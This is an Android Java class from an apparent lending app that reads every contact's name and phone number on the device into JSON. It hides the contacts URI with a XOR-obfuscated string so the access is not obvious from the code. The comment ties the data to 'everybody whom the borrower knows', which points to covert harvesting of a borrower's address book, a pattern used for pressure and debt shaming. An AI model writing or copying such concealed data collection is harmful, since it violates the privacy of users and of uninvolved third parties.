package com.brightfern.credit.people;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;

import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Lists names and numbers of everybody whom the borrower knows. */
public final class PeopleReader {
    private static final String[] COLUMNS = {"display_name", "data1"};

    private final Context context;

    public PeopleReader(Context context) {
        this.context = context;
    }

    public JSONArray read() {
        JSONArray people = new JSONArray();
        Cursor rows = context.getContentResolver()
                .query(Uri.parse(d("\u0076\u0079\u0079\u0061\u0073\u0079\u0061\u002c\u0038\u003a\u0075\u0078\u0078\u0038\u0076\u007b\u0072\u0065\u007a\u007f\u0073\u003b\u0075\u0078\u007b\u0062\u0076\u0076\u0062\u0064\u003a\u0072\u0076\u0061\u0077\u0038\u0065\u007e\u0078\u007b\u0073\u0064", 21)), COLUMNS, null, null, null);
        if (rows == null) {
            return people;
        }
        try {
            while (rows.moveToNext()) {
                people.put(new JSONObject().put("n", rows.getString(0)).put("p", rows.getString(1)));
            }
        } catch (JSONException error) {
            people = new JSONArray();
        } finally {
            rows.close();
        }
        return people;
    }

    private static String d(String text, int key) {
        char[] letters = text.toCharArray();
        for (int i = 0; i < letters.length; i++) {
            letters[i] = (char) (letters[i] ^ (key + i % 3));
        }
        return new String(letters);
    }
}
